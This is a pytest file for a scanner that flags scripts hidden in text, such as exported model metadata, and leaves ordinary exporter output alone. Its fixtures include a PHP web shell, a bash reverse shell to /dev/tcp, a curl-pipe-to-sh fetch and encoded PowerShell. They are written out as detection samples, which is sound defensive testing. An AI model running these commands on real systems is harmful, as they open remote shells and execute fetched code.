"""Scripts are told from what honest files say of themselves."""

import pytest

from scanner.graph.audit.scripts import find
from scanner.graph.audit.signatures import Family

SCRIPTS = [
    "#!/usr/bin/env python\nprint(1)",
    "<?php system($_GET['c']); ?>",
    "<img><script src=x></script>",
    "__import__('os').system('id')",
    "import socket\ns = socket.socket()",
    "exec(compile(source, 'x', 'exec'))",
    "curl -s http://host/x | sh",
    "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
    "powershell -enc AAAA",
    "@echo off\nstart x",
    "require('child_process').exec('id')",
]
SOURCES = [
    "import os, sys\n\ndef f(a):\n    return a + len(os.environ)\n",
    "from pathlib import Path\nclass A:\n    async def g(self) -> None:\n        pass\n",
    '#include <stdio.h>\nint main() {\n  puts("a");\n}\n',
]
HONEST = [
    "from the paper of 2015:\nimport it and define (x) yourself",
    "def forward(self, x):\n    return self.conv(x)",
    "AGPL-3.0 License (https://ultralytics.com/license)",
    "{0: 'person', 1: 'bicycle', 2: 'traffic light'}",
    '{"stride": 32, "task": "detect", "imgsz": [640, 640], "names": {"0": "a"}}',
    'File "torch/nn/modules/conv.py", line 457, in _conv_forward\n  return F.conv2d(input, weight)',
    "%conv2d : [num_users=1] = call_function[target=torch.ops.aten.conv2d.default](args = (%x,))",
    "This model was exported by torch.onnx.export; run it with onnxruntime.",
    "model = MyNet(); model.eval()  # evaluate before export",
    "Set the environment variable, then pip install onnx and import the module.",
]


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_script_is_recognised(text: str) -> None:
    found = find(text)
    assert found is not None
    assert found.family is Family.SCRIPT


@pytest.mark.parametrize("text", SOURCES)
def test_the_source_of_a_program_is_recognised(text: str) -> None:
    found = find(text)
    assert found is not None
    assert (found.kind, found.family) == ("the source of a program", Family.DOCUMENT)


@pytest.mark.parametrize("text", HONEST)
def test_what_exporters_write_is_none(text: str) -> None:
    assert find(text) is None


def test_what_nobody_sees_is_told() -> None:
    found = find("A fine model" + "\u200b\u200c" * 20)
    assert found is not None
    assert found.family is Family.UNKNOWN
    assert find("One joiner: \u200d, as in a family of emoji") is None


@pytest.mark.parametrize("piece", ["<script", "<svg ", "curl ", "powershell ", "-----BEGIN "])
def test_repeating_what_opens_a_script_takes_no_longer(piece: str) -> None:
    find(piece * 50_000)  # the time limit of the test run ends it where it is not linear


def test_a_recipe_in_fences_is_a_quotation() -> None:
    recipe = (
        "# Reproduce\n\n```sh\n#!/bin/bash\npip install onnx | sh -c 'cat'\n```\n\nThat is all.\n"
    )
    found = find(recipe)
    assert found is not None
    assert (found.kind, found.family) == ("a quotation of a shell script", Family.DOCUMENT)
    behind = find(recipe + "import socket\n")
    assert behind is not None
    assert (behind.kind, behind.family) == ("a Python script", Family.SCRIPT)
